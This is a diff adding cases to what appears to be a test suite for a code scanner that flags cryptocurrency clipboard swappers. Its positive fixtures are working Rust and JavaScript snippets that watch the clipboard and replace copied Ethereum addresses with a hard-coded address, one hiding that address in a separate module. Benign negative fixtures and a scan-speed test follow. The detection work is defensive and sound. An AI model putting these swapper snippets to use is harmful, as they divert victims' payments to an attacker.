@@ -829,3 +829,46 @@ describe('SG-TAMPER-029 severity', () => {
     }
   });
 });
+
+describeRuleCases('tamper (clipboard swappers without an address regex)', [
+  {
+    id: 'SG-TAMPER-024',
+    // Rust: the replacement address is a "reference vector" in another module.
+    file: 'src/main.rs',
+    others: {
+      'src/addr.rs':
+        'const VECTORS: [&str; 1] = ["0x5ed8cee6b63b1c6afce3ad7c92f4fd7e1b8fad9e"];\npub fn canonical(s: &str) -> Option<String> {\n    if s.starts_with("0x") && s.len() == 42 { return Some(VECTORS[0].to_string()); }\n    None\n}\n',
+    },
+    positive:
+      'use arboard::Clipboard;\nfn main() {\n    let mut cb = Clipboard::new().unwrap();\n    loop {\n        if let Ok(t) = cb.get_text() {\n            if let Some(c) = addr::canonical(&t) { let _ = cb.set_text(c); }\n        }\n    }\n}\n',
+    // Only warns: the clipboard is read, never written.
+    negative:
+      'use arboard::Clipboard;\nfn main() {\n    let mut cb = Clipboard::new().unwrap();\n    loop {\n        if let Ok(t) = cb.get_text() {\n            if addr::canonical(&t).is_some() { eprintln!("unknown address {t}"); }\n        }\n    }\n}\n',
+  },
+  {
+    id: 'SG-TAMPER-024',
+    file: 'lib/watch.js',
+    positive:
+      "import clipboardy from 'clipboardy';\nimport { isAddress } from 'ethers';\nconst REF = '0x8ba1f109551bD432803012645Ac136ddd64DBA72';\nsetInterval(async () => {\n  const t = (await clipboardy.read()).trim();\n  if (isAddress(t) && t !== REF) await clipboardy.write(REF);\n}, 500);\n",
+    // Writes back the copied address itself, checksummed; no address constant.
+    negative:
+      "import clipboardy from 'clipboardy';\nimport { isAddress, getAddress } from 'ethers';\nsetInterval(async () => {\n  const t = (await clipboardy.read()).trim();\n  if (isAddress(t)) await clipboardy.write(getAddress(t));\n}, 500);\n",
+  },
+]);
+
+describe('adversarial clipboard swappers', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    [
+      'address literals',
+      'cb.get_text(); cb.set_text(x); bs58::\n' +
+        '"0x1111111111111111111111111111111111111111" '.repeat(MiB / 45),
+    ],
+    ['base58 runs', 'clipboard.read(); clipboard.write(x); isAddress(t)\n"' + '1'.repeat(MiB)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'lib/watch.js');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
